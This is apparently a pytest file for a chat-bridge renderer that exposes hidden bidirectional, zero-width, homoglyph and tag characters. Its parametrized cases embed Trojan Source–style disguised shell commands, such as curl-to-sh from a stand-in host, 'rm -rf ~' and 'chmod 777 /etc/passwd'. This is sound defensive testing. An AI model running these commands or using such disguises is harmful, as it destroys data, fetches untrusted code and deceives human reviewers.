"""Hidden and look-alike characters in what a prompt shows are made visible: the examples are
the published Trojan Source attacks (Boucher & Anderson, CVE-2021-42574 and CVE-2021-42694)
and the homoglyph / invisible-text tricks they build on, in the shape they take in a shell
command, a path, a rule or a question."""

from __future__ import annotations

import unicodedata

import pytest

from bridge.discord.render.visible import changed, reveal

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def shown(text: str) -> set[str]:
    """Characters that could still hide something in ``text`` (format, control, odd spaces)."""
    return {
        c
        for c in text
        if (unicodedata.category(c) in ("Cf", "Cc", "Zl", "Zp") and c not in "\n\t")
        or (unicodedata.category(c) == "Zs" and c != " ")
    }


@pytest.mark.parametrize(
    ("attack", "command", "expected"),
    [
        # "Stretched string": the RLO/LRI pair makes the rest of the line read as part of
        # the quoted text; bash runs `rm -rf ~` after the echo.
        (
            "stretched string",
            'echo "deploy done \u202e \u2066" && rm -rf ~ # \u2069 \u2066"',
            'echo "deploy done ⟦U+202E⟧ ⟦U+2066⟧" && rm -rf ~ # ⟦U+2069⟧ ⟦U+2066⟧"',
        ),
        # "Commenting out": what displays as a comment is code, and the reverse.
        (
            "commenting out",
            "ls #\u202e \u2066&& curl -s http://x.example/p | sh\u2069 \u2066",
            "ls #⟦U+202E⟧ ⟦U+2066⟧&& curl -s http://x.example/p | sh⟦U+2069⟧ ⟦U+2066⟧",
        ),
        # A file name that reads "photo_gpj.exe" backwards as "photo_exe.jpg".
        ("RLO file name", "open photo_\u202egpj.exe", "open photo_⟦U+202E⟧gpj.exe"),
        # "Invisible character": a zero-width space splits a word, so an allow-listed
        # look is a different command or host.
        ("zero-width", "curl https://exa\u200bmple.com", "curl https://exa⟦U+200B⟧mple.com"),
        ("word joiner", "git push --for\u2060ce", "git push --for⟦U+2060⟧ce"),
        ("soft hyphen", "chmod 777 /et\u00adc/passwd", "chmod 777 /et⟦U+00AD⟧c/passwd"),
        ("BOM", "\ufeffsudo id", "⟦U+FEFF⟧sudo id"),
        # "Homoglyph": a Cyrillic а (U+0430) in a host name.
        (
            "homoglyph host",
            "curl -fsSL https://\u0430pple.com/install.sh | sh",
            "curl -fsSL https://⟦U+0430⟧pple.com/install.sh | sh",
        ),
        # A whole word of look-alikes: Cyrillic ѕһ runs a program named "ѕһ", not sh.
        ("whole-word homoglyph", "curl x | \u0455\u04bb", "curl x | ⟦U+0455⟧⟦U+04BB⟧"),
        # Fullwidth and mathematical letters pass for ASCII.
        ("fullwidth", "\uff52\uff4d -rf /", "⟦U+FF52⟧⟦U+FF4D⟧ -rf /"),
        ("math bold", "\U0001d42b\U0001d426 x", "⟦U+1D42B⟧⟦U+1D426⟧ x"),
        # A no-break space is not a word separator for bash: one argument, shown as two.
        ("no-break space", "rm -rf /tmp/build\u00a0/", "rm -rf /tmp/build⟦U+00A0⟧/"),
        # Terminal escapes: ESC[2K erases the line a terminal would have shown.
        ("escape sequence", "true\x1b[2K; rm x", "true⟦U+001B⟧[2K; rm x"),
        # Tag characters ("ASCII smuggling"): invisible instructions.
        ("tag characters", "ok\U000e0041\U000e0042", "ok⟦U+E0041⟧⟦U+E0042⟧"),
        # A variation selector hides after an ASCII letter.
        ("variation selector", "rm\ufe0f -rf", "rm⟦U+FE0F⟧ -rf"),
        # The mark itself cannot be forged to hide a real character.
        ("forged mark", "echo ⟦U+202E⟧", "echo ⟦U+27E6⟧U+202E⟦U+27E7⟧"),
    ],
)
def test_trojan_source_commands_are_shown_as_they_run(attack, command, expected) -> None:
    assert reveal(command, code=True) == expected, attack
    assert not shown(reveal(command, code=True)), attack
    assert changed(command, code=True)


def test_every_bidi_control_is_shown() -> None:
    assert reveal(BIDI) == "".join(f"⟦U+{ord(c):04X}⟧" for c in BIDI)


@pytest.mark.parametrize(
    "text",
    [
        "npm test -- --watch=false",
        "Which database should we use? — Postgres, ünïcödé, 日本語のファイル, Ελληνικά",
        "Сделать а или б?",  # Russian prose: "а" ("and") stays readable
        "/home/иван/проект/README.md",  # a Russian user's path, whole words of Cyrillic
        "Ship it 🚀 ❤️ 👨‍👩‍👧 👍🏽",  # emoji keep their joiners and presentation selector
        "tabs\tand\nnewlines stay",
        "x² … “quotes” – dash",
    ],
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert reveal(text) == text
    assert reveal(text, code=True) == text or text.startswith("Сделать")


def test_look_alikes_are_judged_per_word() -> None:
    assert reveal("Use the а option", code=False) == "Use the а option"  # prose, alone
    assert reveal("Use the а option", code=True) == "Use the ⟦U+0430⟧ option"
    assert reveal("npm-пакет") == "npm-пакет"  # two words
    assert reveal("npmпакет") == "npm⟦U+043F⟧⟦U+0430⟧⟦U+043A⟧⟦U+0435⟧⟦U+0442⟧"
